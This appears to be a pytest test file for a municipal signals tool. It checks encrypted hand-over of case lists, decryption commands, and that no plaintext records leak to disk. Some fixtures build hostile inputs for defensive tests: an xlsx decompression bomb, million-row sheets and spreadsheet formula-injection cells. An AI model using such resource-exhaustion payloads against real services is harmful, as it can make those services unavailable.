def test_columns_of_somebody_else_stay_behind_in_a_table(desk: Desk) -> None:
    lines = desk.path("output/latest/signals.csv").read_text().splitlines()
    more = [f"{line},{'bijlage' if at == 0 else '=1+1'}" for at, line in enumerate(lines)]
    desk.path("more.csv").write_text("\n".join(more) + "\n")
    desk.reveal("more.csv", "out.csv")
    assert "bijlage" not in desk.rows("out.csv")[0]
    assert "=1+1" not in desk.path("out.csv").read_text()


@pytest.mark.parametrize("name", ["bomb.xlsx", "strings.xlsx", "rows.xlsx", "long.csv"])
def test_a_large_file_is_refused_in_seconds_within_300_mb(name: str, desk: Desk) -> None:
    _LARGE[name](desk.path(name), desk.path(f"output/latest/{WORKBOOK}"))
    words = [sys.executable, "-c", _MEASURED, "reveal", name, "--out", f"out{desk.path(name).suffix}"]
    words += ["--key-map", "map.age", "--identity", "clerk.id", "--reason", "Onderzoek"]
    done = subprocess.run(words, cwd=desk.folder, capture_output=True, text=True, timeout=60)
    assert done.returncode == 3, done.stderr
    assert int(done.stdout.split()[-1]) < 300 * 1024, "kB held at most"
    assert not list(desk.folder.glob("out.*"))


#: Runs a command and prints how much memory (kB) it held at most.
_MEASURED = """
import atexit, pathlib, re
from brp_signals.cli import main
status = pathlib.Path("/proc/self/status")
atexit.register(lambda: print(re.search(r"VmHWM:\\s+([0-9]+) kB", status.read_text())[1]))
main()
"""


def _with_part(target: Path, source: Path, part: str, content: bytes) -> None:
    """A workbook with one of its parts replaced."""
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as new:
        for name in old.namelist():
            new.writestr(name, content if name == part else old.read(name))


def _many_strings(target: Path, source: Path) -> None:
    text = "".join(f"<si><t>{number}</t></si>" for number in range(1_000_000))
    _with_part(target, source, "xl/sharedStrings.xml", f"<sst>{text}</sst>".encode())


def _many_rows(target: Path, source: Path) -> None:
    rows = "".join(f'<row r="{n}"><c r="A{n}"><v>{n}</v></c></row>' for n in range(1, 900_000))
    namespace = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    sheet = f'<worksheet xmlns="{namespace}"><sheetData>{rows}</sheetData></worksheet>'
    _with_part(target, source, "xl/worksheets/sheet2.xml", sheet.encode())


_LARGE = {
    "bomb.xlsx": lambda target, source: _with_part(target, source, "xl/worksheets/sheet2.xml", b" " * (1 << 28)),
    "strings.xlsx": _many_strings,
    "rows.xlsx": _many_rows,
    "long.csv": lambda target, source: target.write_bytes(b"case_id," * (1 << 24)),
}


# ---- encrypted lists


def test_every_list_is_encrypted_and_reports_are_not(office: Desk) -> None:
    plain, encrypted = names(office, "output"), names(office, "output2")
    reports = {"run.json", "report.html", "quarantine.csv", "findings.csv", "watch.html", "watch_series.parquet"}
    assert encrypted == reports | {f"{name}.age" for name in plain - reports}
    hashes = json.loads(office.path("output2/latest/run.json").read_text())["hashes"]["outputs"]
    assert (
        hashes["signals.csv.age"]
        == hashlib.sha256(office.path("output2/latest/signals.csv.age").read_bytes()).hexdigest()
    )


def names(desk: Desk, folder: str) -> set[str]:
    top = desk.path(folder) / "latest/"
    return {str(path.relative_to(top)) for path in top.rglob("*") if path.is_file()}


def test_inside_stands_what_a_plain_run_writes(office: Desk) -> None:
    for name in ("signals.csv", WORKBOOK, "cases.parquet", "sample.parquet"):
        assert (
            opened(office, f"output2/latest/{name}.age", "clerk.id")
            == office.path(f"output/latest/{name}").read_bytes()
        )
    name = "sealed/signals.csv"
    assert (
        opened(office, f"output2/latest/{name}.age", "officer.id") == office.path(f"output/latest/{name}").read_bytes()
    )
    with pytest.raises(pyrage.DecryptError):
        opened(office, f"output2/latest/{name}.age", "clerk.id")


def canaries(desk: Desk) -> list[bytes]:
    """What only lists hold: numbers and pseudonyms of cases."""
    rows = [*desk.rows("output/latest/signals.csv"), *desk.rows("output/latest/sealed/signals.csv")]
    assert len(rows) == len(CASES)
    return [row[name].encode() for row in rows for name in ("case_id", "person_id")]


def holds(folders: Iterable[Path], words: list[bytes]) -> list[str]:
    """The files below these folders that hold one of the words; what a run remembers for the next is no list."""
    memory = ("ledger.sqlite3", "enrolment_memory-")
    files = [
        path
        for folder in folders
        for path in folder.rglob("*")
        if path.is_file() and not path.is_symlink() and not path.name.startswith(memory)
    ]
    return [str(path) for path in files if any(word in path.read_bytes() for word in words)]


def test_no_plain_list_is_left_anywhere(office: Desk) -> None:
    words = canaries(office)
    assert holds([office.path("output"), office.path("state")], words)  # a plain run does leave them
    assert holds([office.path(name) for name in ("output2", "state2", "tmp")], words) == []


def test_no_plain_list_touches_the_disk_on_its_way(
    office: Desk, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Looks at everything on the disk whenever something is about to be encrypted, and fails the last one.

    Pseudonyms stand in the delivery, of which the work folder holds parts during a run; numbers of cases do not.
    """
    from brp_signals import pipeline
    from brp_signals.base import sealing
    from brp_signals.base.errors import InternalFailure
    from brp_signals.publish import commit

    words, looks = canaries(office)[::2], 0
    clerk = sealing.parse_recipients([recipient(office, "clerk.id")], "--encrypt-to")
    (tmp_path / "tmp").mkdir()
    monkeypatch.setenv("TMPDIR", str(tmp_path / "tmp"))

    def seal(content: bytes, recipients: sealing.Recipients) -> bytes:
        nonlocal looks
        looks += 1
        assert holds([tmp_path], words) == []
        if looks == 16:
            raise OSError(28, "No space left on device")
        return sealing.seal(content, recipients)

    monkeypatch.setattr(commit, "seal", seal)
    with pytest.raises(InternalFailure):
        pipeline.run(
            office.path("delivery"),
            state=tmp_path / "state",
            output=tmp_path / "output",
            config=office.path("brp-signals.toml"),
            handover=sealing.Handover(clerk, clerk),
        )
    assert looks == 16
    assert holds([tmp_path], words) == []
    assert not (tmp_path / "output/latest").exists()


def test_encrypted_lists_are_revealed_too(desk: Desk) -> None:
    desk.reveal("output2/latest/signals.csv.age", "out.csv")
    assert sorted(column(desk.rows("out.csv"))) == numbers(LISTED)
    desk.reveal(f"output2/latest/{WORKBOOK}.age", "out.xlsx")
    sheet = load_workbook(desk.path("out.xlsx"))["Signalen"]
    assert sorted(str(row[2]) for row in sheet.iter_rows(min_row=2, values_only=True)) == numbers(LISTED)
    desk.reveal("output2/latest/sealed/signals.csv.age", "sealed.csv", "--sealed-identity", "officer.id")
    assert sorted(column(desk.rows("sealed.csv"))) == numbers(SEALED)


def test_a_sealed_list_is_never_plain_beside_encrypted_ones(desk: Desk) -> None:
    clerk = recipient(desk, "clerk.id")
    places = ("--state", "state3", "--output", "output3")
    assert "same recipients" in desk.ask("run", "delivery", *places, "--encrypt-to", clerk).stderr
    assert holds([desk.path("output3"), desk.path("state3")], canaries(desk)) == []
    assert "--encrypt-to" in desk.ask("run", "delivery", "--encrypt-sealed-to", clerk, code=2).stderr
    assert "public recipient" in desk.ask("run", "delivery", "--encrypt-to", "age1nonsense", code=2).stderr


def test_explain_needs_the_identity_after_an_encrypted_run(desk: Desk) -> None:
    number = desk.rows("output/latest/signals.csv")[0]["case_id"]
    assert "--identity" in desk.ask("explain", number, "--state", "state2", code=2).stderr
    done = desk.ask("explain", number, "--state", "state2", "--identity", "clerk.id")
    assert done.stdout == desk.ask("explain", number, "--state", "state").stdout
    desk.ask("run", "delivery", "--state", "state2", "--output", "output2")
    assert number in desk.ask("explain", number, "--state", "state2").stdout


def test_texts_that_look_like_formulas_stay_texts_in_a_revealed_workbook() -> None:
    from brp_signals.gateway.way_back.signal_lists import open_list
    from brp_signals.publish.kinds import DEPARTURES
    from brp_signals.publish.workbook import workbook_bytes
    from tests.publish.lists import EVERYTHING, HOSTILE, RULES

    cases = [replace(each, case_id=case_id("departure", each.person_id, "20260302")) for each in EVERYTHING.cases]
    opened = open_list(workbook_bytes(replace(EVERYTHING, cases=tuple(cases)), RULES, DEPARTURES), "list.xlsx")
    made = opened.with_a_numbers({EVERYTHING.cases[0].person_id: a_number(1)}, date(2026, 6, 15))
    book = load_workbook(io.BytesIO(made))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert HOSTILE in {cell.value for cell in cells}


# ---- the document


def test_the_commands_of_the_document_work(desk: Desk) -> None:
    """From making keys to encrypted lists, as docs/gateway.md says it, in an empty folder with the three sources."""
    text = (Path(__file__).parents[2] / "docs/gateway.md").read_text(encoding="utf-8")
    sections = {part.partition("\n")[0]: part for part in text.split("\n## ")}
    blocks = {name: re.findall(r"```sh\n(.+?)```", part, re.DOTALL) for name, part in sections.items()}
    make_keys, make_over = blocks["Keys"]
    rest = [*blocks["Key map and reveal"], *blocks["Audit log"], *blocks["Encrypted hand-over"], make_over]
    for path in desk.folder.iterdir():
        if path.name not in ("register.csv", "schools.csv", "traces.csv", "brp-signals.toml"):
            shutil.rmtree(path) if path.is_dir() else path.unlink()
    fresh = desk.path("schools.csv").read_text().replace("2026-05-06", "2026-11-04")  # a delivery of that autumn
    desk.path("schools.csv").write_text(fresh)
    program = f'set -eu\nbrp-signals() {{ "{sys.executable}" -m brp_signals "$@"; }}\n'
    done = subprocess.run(
        ["bash", "-c", "".join((program, make_keys, *rest))], cwd=desk.folder, capture_output=True, text=True
    )
    assert done.returncode == 0, done.stderr
    assert sorted(column(desk.rows("signals-uit-age.csv"))) == numbers(LISTED)
    assert desk.path("map-2027.age.sealed").exists()
